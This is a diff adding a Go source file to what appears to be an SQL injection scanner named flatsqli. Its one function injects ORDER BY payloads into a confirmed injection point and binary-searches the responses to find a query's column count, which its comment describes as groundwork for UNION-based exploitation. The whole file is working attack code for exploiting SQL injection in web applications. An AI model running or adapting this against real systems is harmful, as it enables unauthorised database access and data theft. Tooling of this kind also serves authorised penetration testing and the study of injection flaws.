@@ -0,0 +1,86 @@
+package scanner
+
+import (
+	"fmt"
+
+	"github.com/morkin1792/flatsqli/internal/fingerprint"
+	"github.com/morkin1792/flatsqli/internal/ui"
+)
+
+// maxColumnCount bounds the ORDER BY column search
+const maxColumnCount = 64
+
+// discoverColumnCount finds the column count of the query behind a confirmed
+// injection point, as a head start for UNION-based exploitation. ORDER BY n is
+// valid up to the column count and errors past it, so the responses for ORDER BY 1
+// (valid) and an out-of-range ORDER BY (error) are the references, and the last
+// valid n is found by doubling and then binary search. Returns 0 if ORDER BY
+// cannot be told apart in this context.
+func (s *Scanner) discoverColumnCount(param Parameter, value string, ctx Context) int {
+	// ORDER BY must end the query, so the context's comment (or -- -) is always used
+	comment := ctx.Comment
+	if comment == "" {
+		comment = "-- -"
+	}
+	orderBy := func(n int) *fingerprint.Fingerprint {
+		payload := fmt.Sprintf("%s%s ORDER BY %d%s", value, ctx.Quote, n, comment)
+		resp := s.sendWithValue(param, payload)
+		if resp == nil {
+			return nil
+		}
+		return resp.Fingerprint
+	}
+
+	valid := orderBy(1)
+	invalid := orderBy(maxColumnCount * 16)
+	if valid == nil || invalid == nil || valid.Equals(invalid) {
+		ui.Verbose(s.verbose, "ORDER BY probing inconclusive for %s", param.Name)
+		return 0
+	}
+
+	// isValid reports whether ORDER BY n still gives the valid response
+	isValid := func(n int) (bool, bool) {
+		fp := orderBy(n)
+		if fp == nil {
+			return false, false
+		}
+		if fp.Equals(valid) {
+			return true, true
+		}
+		return false, fp.Equals(invalid)
+	}
+
+	// Double until ORDER BY fails, then binary search between the bounds
+	low, high := 1, 2
+	for {
+		ok, known := isValid(high)
+		if !ok && !known {
+			return 0
+		}
+		if !ok {
+			break
+		}
+		low = high
+		if high > maxColumnCount {
+			return 0
+		}
+		// Stop one past the limit so exactly maxColumnCount is still found
+		high = min(high*2, maxColumnCount+1)
+	}
+
+	for high-low > 1 {
+		mid := (low + high) / 2
+		ok, known := isValid(mid)
+		if !ok && !known {
+			return 0
+		}
+		if ok {
+			low = mid
+		} else {
+			high = mid
+		}
+	}
+
+	ui.Verbose(s.verbose, "Column count for %s: %d", param.Name, low)
+	return low
+}